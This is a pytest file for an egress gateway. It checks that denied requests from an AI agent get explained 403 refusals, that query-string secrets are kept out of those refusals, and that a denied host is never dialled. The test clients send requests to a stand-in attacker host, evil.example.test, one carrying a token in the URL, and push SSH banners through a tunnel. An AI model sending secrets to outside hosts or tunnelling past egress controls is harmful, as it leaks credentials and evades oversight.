"""Refusals an agent can read: one body for every plane, the CONNECT completed to deliver it,
and never an upstream connection for a denied destination."""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import yaml

from gateway.config.compile import build_policy
from gateway.config.model import Config
from gateway.policy.core import Decision, Plane, RequestFacts, Verdict
from gateway.policy.refusal import refusal
from tests.support.world import CONFIG, World, make_world

CURL = shutil.which("curl")
NODE = shutil.which("node")

BASE = {
    "version": 1,
    "egress": {
        "default": "deny",
        "hosts": {
            "api.example.test": {"deny": ["DELETE /admin/**"]},
            "blocked.example.test": {"allow": False},
        },
    },
}


def _facts(host: str, method: str = "GET", path: str = "/p", port: int = 443) -> RequestFacts:
    return RequestFacts(Plane.MITM, method, "https", host, port, path)


def _apply_snippet(snippet: str) -> Config:
    """Merge the suggested lines into BASE the way an operator would."""
    merged = json.loads(json.dumps(BASE))
    merged["egress"]["hosts"].update(yaml.safe_load(snippet)["egress"]["hosts"])
    return Config.model_validate(merged)


@pytest.mark.parametrize(
    ("host", "port"),
    [("new.example.test", 443), ("blocked.example.test", 443), ("new.example.test", 8443)],
)
def test_suggested_lines_allow_exactly_what_was_refused(host: str, port: int) -> None:
    policy = build_policy(Config.model_validate(BASE), ())
    facts = _facts(host, port=port)
    decision = policy.decide(facts)
    assert not decision.allowed
    body = json.loads(refusal(decision, facts, accept="application/json").body)
    assert body["config"], body
    after = build_policy(_apply_snippet(body["config"]), ())
    assert after.decide(facts).allowed


def test_plain_paragraph_names_what_why_and_lines() -> None:
    policy = build_policy(Config.model_validate(BASE), ())
    facts = _facts("new.example.test", "POST", "/v1/x?token=SECRETQUERY")
    r = refusal(policy.decide(facts), facts)
    text = r.body.decode()
    assert r.status == 403 and r.content_type.startswith("text/plain")
    paragraph, _, lines = text.partition("\n\n")
    assert "\n" not in paragraph.strip()  # one paragraph
    for part in ("host new.example.test", "port 443", "method POST", "path /v1/x"):
        assert part in paragraph
    assert "egress.default: deny" in paragraph
    assert lines == "egress:\n  hosts:\n    new.example.test: {}\n"
    assert "SECRETQUERY" not in text  # the query may carry a token
    assert dict(r.headers)["X-Keyward-Reason"] == "no-rule"


def test_path_denial_names_the_entry_and_rule() -> None:
    policy = build_policy(Config.model_validate(BASE), ())
    facts = _facts("api.example.test", "DELETE", "/admin/users")
    body = json.loads(refusal(policy.decide(facts), facts, accept="application/json").body)
    assert body["rule"] == "api.example.test" and body["decided_by"] == "api.example.test"
    assert "DELETE /admin/**" in body["explanation"]
    assert body["refused"] == {
        "method": "DELETE",
        "scheme": "https",
        "host": "api.example.test",
        "port": 443,
        "path": "/admin/users",
    }


def test_reset_mode_keeps_the_short_body() -> None:
    d = Decision(Verdict.DENY, None, "no-rule")
    r = refusal(d, _facts("x.example.test"), mode="reset")
    assert json.loads(r.body) == {"error": "denied by keyward", "reason": "no-rule", "rule": None}


# -- through `keyward run`: real clients, real TLS, a canary where the denied host resolves ---
class Canary:
    """A TCP listener standing where the denied host resolves: it must never be dialled."""

    def __init__(self) -> None:
        self.accepted = 0
        self.server: asyncio.Server | None = None

    async def start(self) -> int:
        async def on_conn(_r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
            self.accepted += 1
            w.write(b"SSH-2.0-canary\r\n")  # server speaks first, like SSH or SMTP
            w.close()

        self.server = await asyncio.start_server(on_conn, "127.0.0.1", 0)
        return int(self.server.sockets[0].getsockname()[1])

    async def close(self) -> None:
        if self.server is not None:
            self.server.close()
            await self.server.wait_closed()


def canary_config(port: int, refusal_mode: str = "explain") -> str:
    text = CONFIG.replace(
        '"evil.example.test:443": "127.0.0.1:{port}"',
        f'"evil.example.test:443": "127.0.0.1:{port}"',
    )
    return text.replace("  default: deny\n", f"  default: deny\n  refusal: {refusal_mode}\n")


async def _world(tmp_path: Path, mode: str) -> tuple[World, Canary]:
    canary = Canary()
    port = await canary.start()
    return await make_world(tmp_path, canary_config(port, mode)), canary


@pytest.fixture
async def explain(tmp_path: Path) -> AsyncIterator[tuple[World, Canary]]:
    w, c = await _world(tmp_path, "explain")
    yield w, c
    await w.upstream.close()
    await c.close()


@pytest.fixture
async def reset(tmp_path: Path) -> AsyncIterator[tuple[World, Canary]]:
    w, c = await _world(tmp_path, "reset")
    yield w, c
    await w.upstream.close()
    await c.close()


async def run(world: World, *cmd: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        *world.run_argv(*cmd),
        env=env or world.env(),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        cwd=world.dir,
    )
    out, err = await asyncio.wait_for(proc.communicate(), 120)
    return proc.returncode or 0, out.decode(), err.decode()


def py(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


NODE_CLIENT = """
const http = require('http'), https = require('https');
const proxy = new URL(process.env.HTTPS_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'evil.example.test:443'})
  .on('connect', (res, socket) => {
    https.get({host: 'evil.example.test', path: '/node?q=1', socket, agent: false,
               headers: {accept: 'application/json'}}, (r) => {
      let body = ''; r.on('data', (c) => body += c);
      r.on('end', () => { console.log(JSON.stringify({status: r.statusCode, body})); process.exit(0); });
    }).on('error', (e) => { console.log(JSON.stringify({error: String(e)})); process.exit(0); });
  }).end();
"""

CLIENTS = """
import json, subprocess, sys, requests, httpx
out = {}
r = requests.get("https://evil.example.test/requests?token=QSECRET", timeout=30)
out["requests"] = [r.status_code, r.headers.get("X-Keyward-Reason"), r.text]
r = httpx.post("https://evil.example.test/httpx", headers={"Accept": "application/json"}, timeout=30)
out["httpx"] = [r.status_code, r.headers.get("X-Keyward-Reason"), r.json()]
c = subprocess.run(["curl", "-sS", "-w", "\\n%{http_connect} %{http_code}", "https://evil.example.test/curl"], capture_output=True, text=True)
out["curl"] = [c.returncode, c.stdout]
if sys.argv[1]:
    n = subprocess.run([sys.argv[1], "-e", sys.argv[2]], capture_output=True, text=True)
    out["node"] = json.loads(n.stdout or "{}")
print(json.dumps(out))
"""


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_clients_read_the_refusal_and_nothing_is_dialled(
    explain: tuple[World, Canary],
) -> None:
    world, canary = explain
    code, out, err = await run(world, *py(CLIENTS), NODE or "", NODE_CLIENT)
    assert code == 0, err
    r = json.loads(out)
    status, reason, text = r["requests"]
    assert (status, reason) == (403, "no-rule")
    assert "host evil.example.test, port 443, method GET, path /requests" in text
    assert "    evil.example.test: {}" in text and "QSECRET" not in text
    status, reason, body = r["httpx"]
    assert (status, reason) == (403, "no-rule")
    assert body["refused"]["method"] == "POST" and body["refused"]["path"] == "/httpx"
    assert "evil.example.test: {}" in body["config"]
    curl_code, curl_out = r["curl"]
    assert curl_code == 0
    assert curl_out.endswith("\n200 403")  # the CONNECT completed, the request refused
    assert "path /curl" in curl_out
    if NODE:
        assert r["node"]["status"] == 403, r["node"]
        assert json.loads(r["node"]["body"])["refused"]["path"] == "/node"
    assert canary.accepted == 0
    records = [x for x in world.audit() if x["host"] == "evil.example.test"]
    assert len(records) == 4 if NODE else 3
    assert all(x["refusal"] == "explain" and x["status"] == 403 for x in records)


async def test_raw_bytes_in_an_explained_tunnel_never_dial(explain: tuple[World, Canary]) -> None:
    """The server_connect choke point: non-HTTP inside a completed, denied CONNECT (client talks
    first, or waits for a server-speaks-first banner) is killed; the canary is never dialled."""
    world, canary = explain
    code, out, err = await run(
        world,
        *py(
            """
            import os, socket, urllib.parse
            proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
            def tunnel():
                s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
                s.sendall(b"CONNECT evil.example.test:443 HTTP/1.1\\r\\nHost: evil.example.test:443\\r\\n\\r\\n")
                head = s.recv(4096).split(b"\\r\\n")[0].decode()
                return s, head
            def rest(s):
                try:
                    return s.recv(4096)
                except (ConnectionResetError, socket.timeout):
                    return b""
            s, head = tunnel()
            s.settimeout(3)
            banner = rest(s)  # a client waiting for the server to speak first
            s.close()
            s, _ = tunnel()
            s.sendall(b"SSH-2.0-OpenSSH_9.0\\r\\n" * 4)
            data = rest(s)
            print(head, repr(banner[:20]), repr(data[:20]))
            """
        ),
    )
    assert code == 0, err
    assert out.startswith("HTTP/1.1 200") and "canary" not in out, out
    assert canary.accepted == 0


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_client_that_rejects_the_ca_sees_the_reason_and_is_audited(
    explain: tuple[World, Canary],
) -> None:
    world, canary = explain
    env = world.env()
    code, out, err = await run(
        world,
        "sh",
        "-c",
        f'curl -sv --cacert {world.ca.path} https://evil.example.test/x 2>&1; echo "exit=$?"',
        env=env,
    )
    assert code == 0, err
    assert "exit=60" in out  # curl rejected our certificate
    assert "X-Keyward-Reason: no-rule" in out  # the reason, on the CONNECT 200
    rec = [x for x in world.audit() if x["reason"] == "client-tls-rejected"]
    assert len(rec) == 1 and rec[0]["host"] == "evil.example.test"
    assert rec[0]["refusal"] == "explain" and rec[0]["decision"] == "deny"
    assert canary.accepted == 0


@pytest.mark.skipif(CURL is None, reason="curl is not installed")
async def test_reset_mode_refuses_the_connect(reset: tuple[World, Canary]) -> None:
    world, canary = reset
    _, out, err = await run(
        world,
        "curl",
        "-sS",
        "-o",
        "/dev/null",
        "-w",
        "%{http_connect}",
        "https://evil.example.test/x",
    )
    assert out == "403", err
    rec = [x for x in world.audit() if x["host"] == "evil.example.test"]
    assert len(rec) == 1 and rec[0]["refusal"] == "reset" and rec[0]["method"] == "CONNECT"
    assert canary.accepted == 0
